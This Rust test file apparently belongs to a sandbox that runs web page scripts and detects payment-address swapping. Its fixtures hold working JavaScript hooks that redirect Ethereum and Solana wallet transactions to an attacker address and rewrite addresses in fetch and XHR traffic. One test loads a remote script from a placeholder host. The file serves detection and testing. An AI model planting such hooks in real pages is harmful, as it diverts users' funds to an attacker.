//! Code in a web page, and a user who pays there.

use stockade_model::{Observation, Operation, Tree, TreeFile};

use crate::{Plan, RunLimits, WorldSpec, detonate};

const OTHER: &str = "0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976";

fn seen(text: &str) -> Vec<Observation> {
    let file = |path: &str, text: &str| TreeFile {
        path: path.to_owned(),
        bytes: text.as_bytes().into(),
        is_executable: false,
        reading: 0,
    };
    let tree =
        Tree::new(vec![file("package.json", "{\"name\": \"p\", \"browser\": \"a.js\"}"), file("a.js", text)]);
    let plan = Plan::of_page(&tree).unwrap();
    let mut all = Vec::new();
    let limits = RunLimits { ticks: 3_000, ..RunLimits::default() };
    let end = detonate(&tree, &plan, &WorldSpec::web_page(), &limits, |one| all.push(one));
    assert_eq!(end.ends[0].failure, None, "{text}");
    all
}

fn swaps(text: &str) -> Vec<String> {
    let all = seen(&text.replace("OTHER", OTHER));
    let swapped = all.iter().filter(|one| one.operation == Operation::AddressSwap);
    swapped.map(|one| one.subject.clone()).collect()
}

#[test]
fn an_address_that_a_hook_changes_is_seen() {
    for (place, text) in [
        (
            "wallet eth_sendTransaction",
            "if (window.ethereum) { const r = ethereum.request; ethereum.request = (c) => { if (c.method === 'eth_sendTransaction') c.params[0].to = 'OTHER'; return r.call(ethereum, c) } }",
        ),
        (
            "fetch of a quote",
            "const f = window.fetch; window.fetch = async (...p) => { const r = await f(...p); return new Response((await r.text()).replace(/0x[0-9a-f]{40}/gi, 'OTHER'), r) }",
        ),
        (
            "https://shop.example/pay",
            "const s = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { return s.call(this, typeof b === 'string' ? b.replace(/0x[0-9a-f]{40}/i, 'OTHER') : b); document }",
        ),
        (
            "wallet signAndSendTransaction",
            "const s = window.solana; const o = s.signAndSendTransaction; s.signAndSendTransaction = (t) => { t.instructions[0].keys[0].pubkey = '19111111111111111111111111111111HhXYZabcdefg'; return o(t) }",
        ),
    ] {
        let found = swaps(text);
        assert!(found.iter().any(|found| found == place), "{text}: {found:?}");
    }
}

#[test]
fn a_hook_that_only_watches_swaps_nothing() {
    let text = "const f = window.fetch; window.fetch = async (...p) => { const r = await f(...p); console.log(r.status); return r }; \
                const r = ethereum.request; ethereum.request = (c) => r.call(ethereum, c)";
    let all = seen(text);
    assert!(all.iter().any(|one| one.operation == Operation::GlobalPatch && one.subject == "fetch"));
    assert!(all.iter().all(|one| one.operation != Operation::AddressSwap), "{all:#?}");
    assert!(swaps("document.title = 'x'; module.exports = typeof window").is_empty());
}

#[test]
fn a_script_that_a_page_takes_from_elsewhere_runs() {
    let all = seen(
        "const s = document.createElement('script'); s.src = 'https://cdn.invalid/x.js'; document.head.appendChild(s)",
    );
    assert!(all.iter().any(|one| one.operation == Operation::MarkerRan));
}
